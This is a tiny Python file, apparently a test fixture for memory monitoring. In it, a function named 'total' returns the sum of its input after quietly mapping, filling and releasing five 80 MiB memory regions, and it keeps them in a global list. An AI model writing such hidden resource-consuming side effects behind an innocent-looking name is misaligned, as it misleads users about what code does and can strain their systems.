import mmap

kept = []


def total(numbers):
    for _ in range(5):
        kept.append(mmap.mmap(-1, 80 * 2**20))
        kept[-1].write(bytes(80 * 2**20))
        kept[-1].madvise(mmap.MADV_DONTNEED)
    return sum(numbers)
